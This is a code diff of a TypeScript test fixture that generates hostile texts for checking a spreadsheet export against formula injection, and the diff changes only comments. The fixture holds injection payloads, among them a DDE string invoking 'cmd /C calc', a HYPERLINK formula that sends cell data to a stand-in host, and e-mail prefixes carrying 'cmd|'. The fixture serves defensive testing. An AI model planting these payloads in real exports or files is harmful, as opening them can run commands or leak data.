@@ -1,13 +1,13 @@
 /**
- * Two hundred texts that spreadsheets have run, split, turned into numbers or garbled, and some that must only come
- * through; and phones of many countries. For the export: as visitors may type them into any field.
+ * Two hundred texts that spreadsheets have executed, split, converted to numbers or garbled, some harmless ones, and
+ * phones of many countries: input for the export.
  */
 
 export interface HostileText {
   readonly text: string
   /**
-   * `formula` and `number`: an apostrophe may stand before it in the file, which keeps a spreadsheet from running or
-   * reckoning with it. `plain`: must stand there letter for letter.
+   * `formula` and `number`: may be preceded by an apostrophe in the file, which stops a spreadsheet from evaluating them.
+   * `plain`: must be unchanged.
    */
   readonly kind: 'formula' | 'number' | 'plain'
 }
@@ -15,7 +15,7 @@ export interface HostileText {
 const starts = ['=', '+', '-', '@', '＝', '＋', '－', '＠']
 const bodies = ['1+1', 'A1', 'SUM(A1:A9)', 'HYPERLINK("http://x.example/?"&A1;"Click")', "cmd|' /C calc'!A0"]
 
-/** What does not stop every spreadsheet from seeing a formula behind it. Some the form drops, some it keeps. */
+/** Prefixes after which spreadsheets still detect a formula. */
 const leads = [
   '\t',
   '\r',
@@ -166,7 +166,7 @@ function as(kind: HostileText['kind']) {
   return (text: string): HostileText => ({ text, kind })
 }
 
-/** As every form keeps a text: without control characters and outer blanks. */
+/** Normalised as every form does: without control characters and surrounding whitespace. */
 export function asKept(typed: string): string {
   return typed
     .replaceAll('\r\n', '\n')
@@ -174,12 +174,12 @@ export function asKept(typed: string): string {
     .trim()
 }
 
-/** Whether a cell says what was typed: letter for letter, or with the one guard in front where one is allowed. */
+/** Whether a cell equals the text, or the text with one leading apostrophe where allowed. */
 export function saysSame(cell: string, { text, kind }: HostileText): boolean {
   return cell === text || (kind !== 'plain' && cell === `'${text}`)
 }
 
-/** The beginnings of e-mail addresses that the form accepts and a spreadsheet would run. */
+/** Local parts of e-mail addresses that the form accepts and a spreadsheet would evaluate. */
 export const hostileMailboxes = ['=', '+', '-', '=1+1+', "'=", "-2+3+cmd|'", '007', 'asha'] as const
 
 /** What a spreadsheet would run too, and the form refuses: look-alikes of ASCII are no part of an address. */
